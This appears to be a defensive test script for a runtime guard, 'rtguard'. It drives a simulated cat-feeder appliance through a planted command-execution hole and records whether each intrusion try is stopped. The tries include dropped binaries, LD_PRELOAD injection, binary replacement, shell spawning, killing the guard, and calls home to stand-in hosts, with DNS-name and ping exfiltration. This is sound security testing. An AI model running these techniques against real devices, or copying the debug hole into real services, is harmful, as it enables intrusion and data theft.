#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""attack.py RTGUARD BIN PROFILE [OPTION…]: boots the cat feeder under `rtguard enforce PROFILE OPTION…` and lets an
intruder in through the hole in its service. Prints each try and its answer as a table: what he did on the device by the
trace that it left there, what he sent by what arrived in the world. Exit code 0 when every one was stopped and the feeder
goes on feeding."""
import contextlib
import json
import os
import pathlib
import signal
import socket
import subprocess
import sys
import tempfile
import time

sys.dont_write_bytecode = True
import outside  # noqa: E402
from outside import TCP, UDP, is_to  # noqa: E402

HERE = pathlib.Path(__file__).resolve().parent
RUN = "/opt/feeder/run"  # where the intruder can write
FEEDER_PORT = 8080
BACK_DOOR = 2323
STRANGER, STRANGER6 = "198.51.100.66", "2001:db8:66::66"
TIME = "203.0.113.20"
# what the feeder does over the network by itself, in any few seconds
FEEDING = {
    "reports": ("203.0.113.10", TCP, 80), "reports over IPv6": ("2001:db8:77::10", TCP, 80), "asks the time": (TIME, UDP, 123),
    "tells of portions": ("203.0.113.30", TCP, 8883),
}


class Feeder:
    """The appliance, enforced, seen from outside, and its hole."""

    def __init__(self, rtguard, programs, profile, work, *options):
        self.rtguard = rtguard
        self.control = work / "control"
        self.log = open(work / "log", "w+", encoding="utf-8")
        self.appliance = subprocess.Popen(
            [HERE / "appliance", "--bin", programs, rtguard, "enforce", profile, "--yes", "--allow-unsigned",
             "--control", self.control, "--state", work / "state", *options],
            stdin=subprocess.DEVNULL, stdout=self.log, stderr=self.log)
        self.wait_for(lambda: self.ask("status", 0, 1))
        self.pid = next(self.processes("rtguard"))
        network = outside.network_of(self.pid)
        self.world = outside.Outside(self.appliance.pid, network)
        outside.enter_network(network)
        self.wait_for(lambda: self.tell(""))

    def wait_for(self, condition):
        end = time.monotonic() + 30
        while not condition():
            if self.appliance.poll() is not None or time.monotonic() > end:
                self.log.seek(0)
                sys.exit("the feeder did not come up under rtguard:\n" + self.log.read())
            time.sleep(0.1)

    def processes(self, name):
        """Living processes of that name in the device, numbered as outside."""
        device = None
        for entry in pathlib.Path("/proc").iterdir():
            try:
                stat = (entry / "stat").read_text() if entry.name.isdigit() else ""
                if f"({name})" not in stat or ") Z " in stat:
                    continue
                if name == "rtguard" and str(self.control).encode() not in (entry / "cmdline").read_bytes():
                    continue
                device = os.readlink(f"/proc/{self.pid}/ns/pid") if name != "rtguard" else None
                if device in (None, os.readlink(entry / "ns/pid")):
                    yield int(entry.name)
            except OSError:
                pass

    def ask(self, what, *codes):
        done = subprocess.run([self.rtguard, what, "--control", self.control, "--json"], stdout=subprocess.PIPE,
                              stderr=subprocess.DEVNULL, check=False)
        return done.stdout.decode() if done.returncode in codes else None

    def findings(self):
        lines = [json.loads(line) for line in (self.ask("events", 0, 1) or "").splitlines()]
        return [line for line in lines if line.get("event") == "finding"]

    def tell(self, what):
        """Something to its service; what it answers, "" if it does not."""
        try:
            with socket.create_connection(("127.0.0.1", FEEDER_PORT), 10) as service:
                service.sendall((what or "GET / HTTP/1.0\r\n\r\n").encode())
                return service.recv(256).decode()
        except OSError:
            return ""

    def run(self, *command):
        """Through the hole, as a child of the service: the exit status, or the errno of the exec."""
        return self.tell("DEBUG " + " ".join(command)).strip()

    def inside(self, path):
        return pathlib.Path(f"/proc/{self.pid}/root{path}")

    def put(self, path, content):
        new = self.inside(path + ".new")
        new.write_bytes(content)
        new.chmod(0o755)
        new.rename(self.inside(path))

    def end(self):
        self.appliance.send_signal(signal.SIGTERM)
        try:
            self.appliance.wait(5)
        except subprocess.TimeoutExpired:
            self.appliance.kill()
            self.appliance.wait()
        self.log.close()


def tries_on_device(feeder, programs):
    """Each: what is tried, and how; trace is what the intruder would leave behind."""
    intruder = (programs / "intruder").read_bytes()
    portion = (programs / "portion").read_bytes()
    feeder.inside(RUN).chmod(0o1777)
    feeder.put(f"{RUN}/intruder", intruder)
    feeder.put(f"{RUN}/intruder.sh", b"#!/bin/sh\n: >$1\n")
    feeder.put(f"{RUN}/intruder.so", (programs / "libintruder.so").read_bytes())

    def replaced(trace):
        feeder.put("/opt/feeder/bin/portion", intruder)
        feeder.run("/opt/feeder/bin/portion", trace)
        feeder.put("/opt/feeder/bin/portion", portion)

    def guard_killed(trace):
        for guard in list(feeder.processes("rtguard-guard")):
            os.kill(guard, signal.SIGKILL)
        feeder.run(f"{RUN}/intruder", trace)

    loader = next(pathlib.Path("/lib64").glob("ld-linux*"), None) or next(pathlib.Path("/lib").glob("ld-*"))
    yield "runs a program that he dropped there", lambda trace: feeder.run(f"{RUN}/intruder", trace)
    yield "runs a script of his own", lambda trace: feeder.run(f"{RUN}/intruder.sh", trace)
    yield "hands his script to the device's shell", lambda trace: feeder.run("/bin/sh", f"{RUN}/intruder.sh", trace)
    yield "has the loader start his program", lambda trace: feeder.run(str(loader), f"{RUN}/intruder", trace)
    yield "slips a library into a known program", \
        lambda trace: feeder.run(f"LD_PRELOAD={RUN}/intruder.so", f"INTRUDER_TRACE={trace}", "/opt/feeder/bin/portion")
    yield "puts his own in a known one's place", replaced
    yield "uses a tool that the device never used", lambda trace: feeder.run("/usr/bin/touch", trace)
    yield "opens a shell", lambda trace: feeder.run("/bin/sh", "-c", f":>{trace}")
    yield "kills the guard and tries again at once", guard_killed


def tries_over_network(feeder):
    """Each: what is tried, how, and which packet shows in the world that it got through; how may say so itself."""
    def tell(transport, host, port):
        return lambda: feeder.run(f"PORTION_LOG={transport},{host},{port}", "/opt/feeder/bin/portion")

    def called_from_outside():
        with outside.listen(BACK_DOOR):
            return feeder.world.call(BACK_DOOR)

    def gate_killed():
        for gate in list(feeder.processes("rtguard-gate")):
            os.kill(gate, signal.SIGKILL)
        tell("tcp", STRANGER, 443)()

    def ping():
        with contextlib.suppress(PermissionError):  # what the packet filter says to raw sockets
            outside.send_echo(STRANGER, b"carried out")

    def to(*place):
        return lambda packet: is_to(packet, *place)

    yield "calls home", tell("tcp", STRANGER, 443), to(STRANGER)
    yield "calls home over IPv6", tell("tcp", STRANGER6, 443), to(STRANGER6)
    yield "uses another port of a known server", tell("udp", TIME, 4500), to(TIME, UDP, 4500)
    yield "uses another program's connection", tell("udp", TIME, 123), \
        lambda packet: is_to(packet, TIME, UDP, 123) and b"portion" in packet
    yield "carries data out in names", tell("tcp", "c2VjcmV0.tunnel.example", 443), lambda packet: b"\x06tunnel" in packet
    yield "asks a resolver of his own", tell("udp", STRANGER, 53), to(STRANGER)
    yield "carries data out in pings", ping, to(STRANGER)
    yield "opens a back door to the network", called_from_outside, None
    yield "kills the gate and calls home at once", gate_killed, to(STRANGER)


def answer_of(finding):
    if not finding:
        return "stopped"
    if finding["action"] == "killed":
        since = finding.get("since_exec_us")
        return f"killed {since / 1000:.1f} ms after it began" if since else "killed before it began"
    if finding["layer"] in ("rules", "gate"):
        return {"dropped": "did not arrive", "refused": "answered: no such name"}.get(finding["action"], finding["action"])
    return "refused before it ran"


class Table:
    """Tries and their answers, as they come."""
    ROW = "{:<42} {:<30} {}"

    def __init__(self, feeder):
        self.feeder = feeder
        self.got_through = 0
        print(self.ROW.format("AN INTRUDER…", "ANSWER", "FINDING"))

    def take(self, what, how, patience):
        """how: does it and returns whether it got through; patience: seconds until its finding is there."""
        known = {finding["id"] for finding in self.feeder.findings()}
        got_through = how()
        end = time.monotonic() + patience
        while not (new := [event for event in self.feeder.findings() if event["id"] not in known]) and time.monotonic() < end:
            time.sleep(0.05)
        self.got_through += got_through
        finding = new[0] if new else None
        self.say(what, "GOT THROUGH" if got_through else answer_of(finding),
                 finding["kind"] if finding else "(counted with the one before)")

    def say(self, *words):
        print(self.ROW.format(*words), flush=True)


def feeding(feeder):
    """What it does no more; each is waited for."""
    missing = [] if feeder.run("/opt/feeder/bin/portion") == "exit 0" else ["portions"]
    wanted = dict(FEEDING)
    end = time.monotonic() + 10
    while wanted and time.monotonic() < end:
        for packet in feeder.world.arrivals(0.2):
            wanted = {what: place for what, place in wanted.items() if not is_to(packet, *place)}
    if not feeder.world.call(FEEDER_PORT):
        missing.append("answers the app")
    return missing + list(wanted)


def main():
    rtguard, programs, profile = sys.argv[1], pathlib.Path(sys.argv[2]), sys.argv[3]
    with tempfile.TemporaryDirectory(prefix="rtguard-attack.") as directory:
        feeder = Feeder(rtguard, programs, profile, pathlib.Path(directory), *sys.argv[4:])
        try:
            before = feeder.findings()
            table = Table(feeder)
            for number, (what, how) in enumerate(tries_on_device(feeder, programs)):
                trace = f"{RUN}/trace-{number}"

                def on_device(how=how, trace=trace):
                    how(trace)
                    time.sleep(0.1)
                    return feeder.inside(trace).exists()
                table.take(what, on_device, 0)
            for what, how, shows in tries_over_network(feeder):
                def over_network(how=how, shows=shows):
                    feeder.world.arrivals()
                    arrived = how()
                    return any(map(shows, feeder.world.arrivals(0.2))) if shows else arrived
                table.take(what, over_network, 1)
            missing = feeding(feeder)
            table.say("and the feeder…", "goes on feeding" if not missing else "FEEDS NO MORE: " + ", ".join(missing), "")
            if before:
                print(f"before anybody broke in there were {len(before)} findings: {before}")
        finally:
            feeder.end()
    sys.exit(1 if table.got_through or before or missing else 0)


if __name__ == "__main__":
    main()
